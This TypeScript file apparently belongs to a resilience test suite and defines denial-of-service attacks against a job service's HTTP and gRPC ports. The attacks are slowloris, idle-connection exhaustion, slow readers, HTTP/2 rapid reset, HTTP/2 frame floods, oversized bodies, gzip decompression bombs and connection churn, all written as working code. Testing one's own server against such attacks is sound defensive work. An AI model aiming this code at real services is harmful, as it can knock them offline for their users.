import { setTimeout as delay } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import type { AttackGround } from "./attack-ground.ts";
import { endHeaders, endStream, frame, frameType, preface, requestHead, settings } from "./http2-frames.ts";

const mebibyte = 1024 * 1024;
const submit = "/millrace.jobs.v1.JobService/SubmitJob";
const getInfo = "/millrace.system.v1.SystemService/GetInfo";
const grpc = { "content-type": "application/grpc", te: "trailers" };

/** One way to be a nuisance; goes on until its process is ended. Calls `inPlace` once there is something to be felt. */
export type Attack = (ground: AttackGround, inPlace: () => void) => Promise<void>;

/** Does the same over and over, so many at once. */
async function keep(atOnce: number, one: (index: number) => Promise<void>): Promise<void> {
  const lane = async (index: number): Promise<never> => {
    while (true) await one(index);
  };
  await Promise.all(Array.from({ length: atOnce }, (_, index) => lane(index)));
}

function post(path: string, lines: Lines): string {
  const head = Object.entries({ host: "a", ...lines }).map(([name, value]) => `${name}: ${value}\r\n`);
  return `POST ${path} HTTP/1.1\r\n${head.join("")}\r\n`;
}

const json = { "content-type": "application/json" };
const proto = { "content-type": "application/proto" };
const text = { "content-type": "text/plain" };
const chunked = { "transfer-encoding": "chunked" };
type Lines = Readonly<Record<string, string>>;

const slowLoris: Attack = async (ground, inPlace) => {
  inPlace();
  const dribble = async (port: number, head: string | Uint8Array, piece: string | Uint8Array) => {
    const socket = ground.open(port);
    socket.resume();
    socket.write(head);
    await ground.pour(socket, () => Buffer.from(piece), 1_000);
    await delay(1_000);
  };
  const kinds = [
    () => dribble(ground.httpPort, "GET / HTTP/1.1\r\nhost: a\r\n", "x-a: b\r\n"),
    (who: Lines) =>
      dribble(ground.httpPort, post("/api/v1/jobs", { ...who, ...json, "content-length": "100000" }), " "),
    (who: Lines) => dribble(ground.httpPort, post(submit, { ...who, ...json, ...chunked }), "1\r\n \r\n"),
    () => dribble(ground.httpPort, post("/nothing", { ...text, "content-length": "100000" }), " "),
    (who: Lines) => {
      const head = requestHead("POST", submit, { ...who, ...grpc });
      const stream = Buffer.concat([preface, settings(), frame(frameType.headers, endHeaders, 1, head)]);
      return dribble(ground.grpcPort, stream, frame(frameType.data, 0, 1, Buffer.from([0])));
    },
    () => dribble(ground.grpcPort, "PRI * HTTP/2.0", ""),
  ];
  await keep(kinds.length * 100, async (index) => {
    await delay(index); // they do not all come in the same instant
    await kinds[index % kinds.length]?.(ground.credentials(Math.floor(index / kinds.length)));
  });
};

function idle(sockets: number, addresses: number): Attack {
  return async (ground, inPlace) => {
    for (let n = 0; n < sockets; n += 1) {
      ground.open(n % 3 === 0 ? ground.grpcPort : ground.httpPort, n % addresses).resume();
      if (n % 25 === 0) await delay(10);
    }
    while (ground.opened < sockets) await delay(10);
    inPlace();
    await new Promise(() => {});
  };
}

const slowReaders: Attack = async (ground, inPlace) => {
  inPlace();
  const request = "GET /openapi.json HTTP/1.1\r\nhost: a\r\n\r\n";
  const page = requestHead("GET", "/openapi.json");
  await keep(40, async (index) => {
    await delay(index * 10);
    const socket = ground.open(index % 2 === 0 ? ground.httpPort : ground.grpcPort);
    socket.pause();
    if (index % 2 === 0) {
      socket.write(request.repeat(100));
    } else {
      socket.write(Buffer.concat([preface, settings(0)]));
      for (let n = 0; n < 100; n += 1) {
        socket.write(frame(frameType.headers, endHeaders | endStream, 2 * n + 1, page));
        await delay(20);
      }
    }
    await new Promise((resolve) => socket.once("close", resolve));
    await delay(1_000);
  });
};

const rapidReset: Attack = async (ground, inPlace) => {
  inPlace();
  const cancel = Buffer.from([0, 0, 0, 8]);
  await keep(4, async (index) => {
    const head = requestHead("POST", getInfo, { ...ground.credentials(index), ...grpc });
    const socket = ground.open(ground.grpcPort);
    socket.resume();
    socket.write(Buffer.concat([preface, settings()]));
    let id = 1;
    const burst = () => {
      const frames: Buffer[] = [];
      for (let n = 0; n < 100; n += 1, id += 2) {
        frames.push(frame(frameType.headers, endHeaders, id, head), frame(frameType.reset, 0, id, cancel));
      }
      return Buffer.concat(frames);
    };
    await ground.pour(socket, burst, 20);
    await delay(200);
  });
};

const frameFloods: Attack = async (ground, inPlace) => {
  inPlace();
  const repeat = (one: Buffer) => Buffer.concat(Array.from({ length: 200 }, () => one));
  const head = requestHead("POST", submit, { ...ground.credentials(1), ...grpc });
  const begin = frame(frameType.headers, endHeaders, 1, head);
  const unfinished = frame(frameType.headers, 0, 1, head);
  const floods = [
    [repeat(frame(frameType.ping, 0, 0, Buffer.alloc(8)))],
    [repeat(settings())],
    [repeat(frame(frameType.continuation, 0, 1, Buffer.from([0, 1, 97, 1, 98]))), unfinished],
    [repeat(frame(frameType.data, 0, 1)), begin],
    [repeat(frame(frameType.priority, 0, 3, Buffer.from([0, 0, 0, 0, 9])))],
    [repeat(frame(frameType.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1]))), begin],
    [repeat(frame(frameType.unknown, 0, 0, Buffer.alloc(8)))],
  ] as const;
  await keep(floods.length, async (index) => {
    const [flood, first] = floods[index % floods.length] ?? floods[0];
    const socket = ground.open(ground.grpcPort);
    socket.resume();
    socket.write(Buffer.concat([preface, settings(), first ?? Buffer.alloc(0)]));
    await ground.pour(socket, () => flood, 20);
    await delay(200);
  });
};

/** Nobody needs a whole GiB to be sure: what counts is how much of it is let in. Some 90 MB each second, on fourteen connections. */
const hugeBodies: Attack = async (ground, inPlace) => {
  inPlace();
  const size = 1024 * mebibyte;
  const piece = Buffer.alloc(64 * 1024, 0x20);
  const chunk = Buffer.concat([Buffer.from("10000\r\n"), piece, Buffer.from("\r\n")]);
  const known = { "content-length": String(size) };
  const kinds: [string, Lines, Buffer][] = [
    ["/api/v1/jobs", { ...json, ...known }, piece],
    ["/api/v1/jobs", { ...json, ...chunked }, chunk],
    [submit, { ...json, ...known }, piece],
    [submit, { ...proto, ...chunked }, chunk],
    [submit, { ...proto, ...chunked, "content-encoding": "gzip" }, chunk],
    ["/nothing", { ...text, ...chunked }, chunk],
  ];
  const envelope = Buffer.from([0, 0x40, 0, 0, 0]);
  const data = Buffer.concat(Array.from({ length: 4 }, () => frame(frameType.data, 0, 1, piece.subarray(0, 16_000))));
  const each = kinds.length + 1;
  await keep(2 * each, async (index) => {
    const kind = kinds[index % each];
    const who = ground.credentials(Math.floor(index / each));
    const socket = ground.open(kind === undefined ? ground.grpcPort : ground.httpPort);
    socket.resume();
    if (kind === undefined) {
      const head = frame(frameType.headers, endHeaders, 1, requestHead("POST", submit, { ...who, ...grpc }));
      socket.write(Buffer.concat([preface, settings(), head, frame(frameType.data, 0, 1, envelope)]));
      await ground.pour(socket, () => data, 10);
    } else {
      const [path, lines, more] = kind;
      socket.write(post(path, { ...who, ...lines }));
      await ground.pour(socket, () => more, 10);
    }
    await delay(200);
  });
};

const gzipBombs: Attack = async (ground, inPlace) => {
  inPlace();
  // Members of a gzip file follow each other: a GiB in one MiB, and 16 MiB for where that would be too much already.
  const member = gzipSync(Buffer.alloc(mebibyte, 0x20));
  const bomb = Buffer.concat(Array.from({ length: 1024 }, () => member));
  const packed = { "content-encoding": "gzip" };
  const envelope = Buffer.alloc(5);
  envelope[0] = 1;
  envelope.writeUInt32BE(bomb.byteLength, 1);
  const framed = Buffer.concat([envelope, bomb]);
  const kinds: [string, Lines, Buffer][] = [
    ["/api/v1/jobs", { ...json, ...packed }, bomb],
    [submit, { ...json, ...packed }, bomb],
    [submit, { ...proto, ...packed }, bomb],
    [submit, { "content-type": "application/grpc-web+proto", "grpc-encoding": "gzip" }, framed],
  ];
  await keep(2 * kinds.length, async (index) => {
    const [path, lines, body] = kinds[index % kinds.length] ?? ["", {}, bomb];
    const who = ground.credentials(Math.floor(index / kinds.length));
    const socket = ground.open(ground.httpPort);
    const answered = new Promise<void>((resolve) => {
      socket.once("data", () => resolve());
      socket.once("close", () => resolve());
    });
    socket.write(post(path, { ...who, ...lines, "content-length": String(body.byteLength) }));
    socket.write(body);
    await answered;
    socket.destroy();
    await delay(100);
  });
};

const churn: Attack = async (ground, inPlace) => {
  inPlace();
  await keep(20, async (index) => {
    const socket = ground.open(index % 2 === 0 ? ground.httpPort : ground.grpcPort);
    await new Promise<void>((resolve) => {
      socket.once("connect", () => resolve());
      socket.once("close", () => resolve());
    });
    socket.destroy();
    await delay(25);
  });
};

export const attacks = {
  slowLoris,
  idleOfOne: idle(5_000, 1),
  idleOfMany: idle(5_000, 5),
  slowReaders,
  rapidReset,
  frameFloods,
  hugeBodies,
  gzipBombs,
  churn,
} satisfies Record<string, Attack>;

export type AttackName = keyof typeof attacks;
